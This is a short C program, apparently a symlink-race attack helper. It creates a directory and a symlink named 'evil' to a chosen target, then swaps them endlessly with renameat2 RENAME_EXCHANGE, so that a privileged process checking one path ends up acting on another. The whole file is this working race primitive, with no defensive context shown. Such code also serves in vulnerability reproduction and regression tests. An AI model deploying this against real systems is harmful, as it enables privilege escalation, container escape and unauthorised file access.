/* swapdir DIR TARGET: makes DIR/sub a directory and DIR/evil a symbolic
 * link to TARGET, then exchanges the two names (renameat2
 * RENAME_EXCHANGE) as fast as it can, forever. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3 || chdir(argv[1]) != 0) {
		perror("swapdir");
		return 1;
	}
	mkdir("sub", 0755);
	if (symlink(argv[2], "evil") != 0) {
		perror("symlink");
		return 1;
	}
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, "sub", AT_FDCWD, "evil", 2 /* RENAME_EXCHANGE */);
}
